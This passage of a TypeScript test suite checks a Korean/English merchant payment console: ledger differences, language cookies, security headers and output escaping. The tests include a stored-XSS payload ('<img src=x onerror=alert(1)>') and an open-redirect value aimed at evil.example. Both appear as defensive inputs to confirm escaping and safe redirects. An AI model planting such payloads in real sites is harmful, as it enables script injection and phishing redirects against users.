    // nothing of bob's
    expect(clean.rows.some((r: { merchantUid: string }) => r.merchantUid?.startsWith('bob_'))).toBe(false);
    await c.pier.store.db.updateTable('payments').set({ amount: 4500 }).where('imp_uid', '=', p.imp_uid).execute();
    const page = await a.get('/console/sandbox');
    expect(page.body).toMatch(/<tr class="diff">[\s\S]*?ledger_check|<tr class="diff">[\s\S]*?<a href="\/console\/payments\/imp_/);
    expect(page.body).toContain('차이가 있는 기록');
    const api = (await a.get('/console/api/sandbox/ledger')).json.rows.find((r: { impUid: string }) => r.impUid === p.imp_uid);
    expect(api.differences).toEqual(['amount']);
    await c.pier.store.db.updateTable('payments').set({ amount: 4000 }).where('imp_uid', '=', p.imp_uid).execute();
  });
});

describe('language, headers and errors', () => {
  it('speaks Korean by default and English on request, remembered in a cookie', async () => {
    expect((await a.get('/console/payments')).body).toContain('<html lang="ko">');
    expect((await a.get('/console/payments?lang=en')).body).toContain('Export CSV');
    const sw = await a.get('/console/lang/en?next=%2Fconsole%2Fkeys');
    expect(sw.location).toBe('/console/keys');
    expect((await a.get('/console/keys')).body).toContain('Issue a new secret');
    await a.get('/console/lang/ko?next=https%3A%2F%2Fevil.example');
    expect((await a.get('/console/keys')).body).toContain('Secret 재발급');
  });

  it('sends a strict CSP, no-store and frame protection on console pages', async () => {
    const r = await a.get('/console/payments');
    expect(r.headers['content-security-policy']).toContain("script-src 'self'");
    expect(r.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(r.headers['x-frame-options']).toBe('DENY');
    expect(r.headers['cache-control']).toBe('no-store');
    // decision 0105: no other site keeps a handle on a console window or embeds a console answer
    for (const path of ['/console/payments', '/console/login', '/console/payments.csv', '/console/api/session', '/console/assets/console.js', '/console/no-such-page']) {
      const res = await a.get(path);
      expect(res.headers['cross-origin-opener-policy'], path).toBe('same-origin');
      expect(res.headers['cross-origin-resource-policy'], path).toBe('same-origin');
    }
  });

  it('answers unknown console paths with a console 404, and keeps console routes out of the V1 OpenAPI document', async () => {
    expect((await a.get('/console/nope')).status).toBe(404);
    expect((await a.get('/console/api/nope')).json).toMatchObject({ ok: false, error: { code: 'not_found' } });
    const doc = await c.app.inject({ method: 'GET', url: '/openapi.json' });
    expect(doc.body).not.toContain('/console');
  });

  it('escapes merchant-supplied text on every page', async () => {
    await pay(alice, 'xss_<script>', 1000, { name: '<img src=x onerror=alert(1)>', buyer_name: '<b>bold</b>' });
    const r = await a.get('/console/payments?q=xss_');
    expect(r.body).not.toContain('<img src=x');
    expect(r.body).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});
